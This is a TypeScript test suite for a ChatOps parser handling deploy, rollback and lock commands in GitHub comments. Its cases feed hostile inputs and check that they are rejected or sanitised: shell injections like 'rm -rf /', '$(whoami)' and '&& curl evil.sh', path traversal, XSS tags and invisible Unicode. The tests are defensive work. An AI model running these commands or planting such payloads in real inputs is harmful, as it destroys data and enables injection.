import { describe, expect, it } from "vitest";
import type { ParsedComment } from "../../../src/chatops/commands.js";
import { parseCommand } from "../../../src/chatops/parse-command.js";

const options = { environments: ["staging", "production", "eu.prod-2"] };
const NONE: ParsedComment = { kind: "none" };
const deploy = (env: string): ParsedComment => ({
  kind: "deploy",
  env,
  dryRun: false,
  force: false,
});
const invalid = (command: string) => ({ kind: "invalid", command });

describe("parseCommand: malformed Pylot commands", () => {
  it.each([
    { name: "missing env", body: "/deploy", command: "deploy", reason: /which environment/ },
    {
      name: "flag only",
      body: "/deploy --dry-run",
      command: "deploy",
      reason: /which environment/,
    },
    {
      name: "unknown env",
      body: "/deploy stagin",
      command: "deploy",
      reason: /unknown environment "stagin".*staging, production/,
    },
    {
      name: "env case-sensitive",
      body: "/deploy Staging",
      command: "deploy",
      reason: /unknown environment/,
    },
    {
      name: "unknown flag",
      body: "/deploy staging --yes",
      command: "deploy",
      reason: /unknown flag "--yes"/,
    },
    {
      name: "single-dash flag",
      body: "/deploy staging -f",
      command: "deploy",
      reason: /unknown flag "-f"/,
    },
    {
      name: "two environments",
      body: "/deploy staging production",
      command: "deploy",
      reason: /one environment/,
    },
    {
      name: "semicolon",
      body: "/deploy staging; rm -rf /",
      command: "deploy",
      reason: /may only use/,
    },
    {
      name: "semicolon token",
      body: "/deploy staging ; reboot",
      command: "deploy",
      reason: /may only use/,
    },
    {
      name: "command substitution",
      body: "/deploy $(whoami)",
      command: "deploy",
      reason: /may only use/,
    },
    { name: "backticks", body: "/deploy `id`", command: "deploy", reason: /may only use/ },
    {
      name: "and-and",
      body: "/deploy staging && curl evil.sh",
      command: "deploy",
      reason: /may only use/,
    },
    { name: "pipe", body: "/deploy staging|sh", command: "deploy", reason: /may only use/ },
    {
      name: "newline-free control char",
      body: "/deploy stag\u0007ing",
      command: "deploy",
      reason: /may only use/,
    },
    {
      name: "NUL in env",
      body: "/deploy staging\u0000",
      command: "deploy",
      reason: /may only use/,
    },
    {
      name: "Cyrillic in env",
      body: "/deploy st\u0430ging",
      command: "deploy",
      reason: /may only use/,
    },
    {
      name: "NBSP after env",
      body: "/deploy staging\u00A0",
      command: "deploy",
      reason: /may only use/,
    },
    {
      name: "env too long",
      body: `/deploy ${"s".repeat(65)}`,
      command: "deploy",
      reason: /at most 64/,
    },
    {
      name: "path traversal",
      body: "/deploy ../../etc",
      command: "deploy",
      reason: /may only use/,
    },
    {
      name: "dots only",
      body: "/deploy ..",
      command: "deploy",
      reason: /unknown environment ".."/,
    },
    {
      name: "rollback without env",
      body: "/rollback",
      command: "rollback",
      reason: /which environment/,
    },
    {
      name: "rollback sha without to",
      body: "/rollback staging abc1234",
      command: "rollback",
      reason: /usage/,
    },
    {
      name: "rollback to nothing",
      body: "/rollback staging to",
      command: "rollback",
      reason: /usage/,
    },
    {
      name: "rollback upper-case sha",
      body: "/rollback staging to ABC1234",
      command: "rollback",
      reason: /lowercase hex/,
    },
    {
      name: "rollback short sha",
      body: "/rollback staging to abc12",
      command: "rollback",
      reason: /neither/,
    },
    {
      name: "rollback 41 hex",
      body: `/rollback staging to ${"a".repeat(41)}`,
      command: "rollback",
      reason: /neither/,
    },
    {
      name: "rollback id 0",
      body: "/rollback staging to 0",
      command: "rollback",
      reason: /start at 1/,
    },
    {
      name: "rollback huge id",
      body: `/rollback staging to ${"9".repeat(16)}`,
      command: "rollback",
      reason: /too long/,
    },
    {
      name: "rollback flag",
      body: "/rollback staging --force",
      command: "rollback",
      reason: /unknown flag/,
    },
    {
      name: "rollback trailing",
      body: "/rollback staging to abc1234 now",
      command: "rollback",
      reason: /usage/,
    },
    {
      name: "rollback substitution",
      body: "/rollback staging to $(id)",
      command: "rollback",
      reason: /may only use/,
    },
    { name: "lock without env", body: "/lock", command: "lock", reason: /which environment/ },
    { name: "lock hostile env", body: "/lock staging;id", command: "lock", reason: /may only use/ },
    {
      name: "lock unknown env",
      body: "/lock qa why",
      command: "lock",
      reason: /unknown environment "qa"/,
    },
    {
      name: "unlock extra",
      body: "/unlock staging now",
      command: "unlock",
      reason: /unexpected "now"/,
    },
    { name: "unlock without env", body: "/unlock", command: "unlock", reason: /which environment/ },
    {
      name: "retest with args",
      body: "/retest all",
      command: "retest",
      reason: /takes no arguments/,
    },
    {
      name: "help with hostile args",
      body: "/help $(id)",
      command: "help",
      reason: /may only use/,
    },
    {
      name: "first command invalid wins",
      body: "/deploy nope\n/deploy staging",
      command: "deploy",
      reason: /unknown/,
    },
  ])("$name", ({ body, command, reason }) => {
    const parsed = parseCommand(body, options);

    expect(parsed).toMatchObject(invalid(command));
    expect(parsed.kind === "invalid" ? parsed.reason : "").toMatch(reason);
  });

  it("says so when no environment is configured", () => {
    const parsed = parseCommand("/deploy staging", { environments: [] });

    expect(parsed).toEqual({
      kind: "invalid",
      command: "deploy",
      reason: 'unknown environment "staging" (none is configured).',
    });
  });

  it.each([
    { body: "/deploy <img src=x onerror=alert(1)>", echo: "onerror" },
    { body: "/deploy @octocat", echo: "octocat" },
    { body: "/rollback staging to <script>", echo: "script" },
    { body: "/unlock staging @everyone", echo: "everyone" },
    { body: `/deploy ${"x".repeat(5000)}`, echo: "x".repeat(41) },
    { body: `/retest ${"y".repeat(5000)}`, echo: "y".repeat(41) },
  ])("never echoes unsafe or long input in the reason: $body", ({ body, echo }) => {
    const parsed = parseCommand(body, options);

    expect(parsed.kind).toBe("invalid");
    const reason = parsed.kind === "invalid" ? parsed.reason : "";
    expect(reason).not.toContain(echo);
    expect(reason.length).toBeLessThan(200);
  });
});

describe("parseCommand: lock reasons are plain text", () => {
  it.each([
    {
      name: "shell-looking text kept",
      line: "/lock staging $(rm -rf /) && `id`; ok",
      reason: "$(rm -rf /) && `id`; ok",
    },
    { name: "control chars removed", line: "/lock staging a\u0000b\u0007c\u001bd", reason: "abcd" },
    { name: "bidi override removed", line: "/lock staging abc\u202Edef\u2066", reason: "abcdef" },
    { name: "whitespace collapsed", line: "/lock staging  a \t b\u00A0\u00A0c  ", reason: "a b c" },
    { name: "capped at 200", line: `/lock staging ${"é".repeat(300)}`, reason: "é".repeat(200) },
    {
      name: "emoji not split",
      line: `/lock staging ${"🚀".repeat(250)}`,
      reason: "🚀".repeat(200),
    },
    {
      name: "only the rest of the line",
      line: "/lock staging release\nnext line",
      reason: "release",
    },
  ])("$name", ({ line, reason }) => {
    const parsed = parseCommand(line, options);

    expect(parsed).toEqual({ kind: "lock", env: "staging", reason });
  });

  it("drops a reason made only of invisible characters", () => {
    const parsed = parseCommand("/lock staging \u200B\u0000 ", options);

    expect(parsed).toEqual({ kind: "lock", env: "staging" });
  });
});

describe("parseCommand: large comments", () => {
  it("finds a command after 65 kB of text", () => {
    const body = `${"lorem ipsum dolor sit amet\n".repeat(2400)}\n/deploy staging`;

    const parsed = parseCommand(body, options);

    expect(body.length).toBeGreaterThan(64_000);
    expect(parsed).toEqual(deploy("staging"));
  });

  it("reads no further than GitHub's 65,536 character limit", () => {
    const body = `${"x".repeat(65_530)}\n/deploy staging`;

    const parsed = parseCommand(body, options);

    expect(parsed).toEqual(NONE);
  });

  it("drops the line the limit cuts through", () => {
    const body = `${"x".repeat(65_520)}\n/deploy staging production extra words`;

    const parsed = parseCommand(body, options);

    expect(parsed).toEqual(NONE);
  });

  it.each([
    { name: "backticks", body: "` ``".repeat(20_000) },
    { name: "fences", body: "```\n".repeat(16_000) },
    { name: "quotes", body: "> a\n".repeat(16_000) },
    { name: "HTML comments", body: "<!-- <!-- -->\n".repeat(4_000) },
  ])("stays linear on hostile $name", ({ body }) => {
    const parsed = parseCommand(`${body}\n\n/help`, options);

    expect(parsed.kind).toMatch(/^(none|help)$/);
  });
});
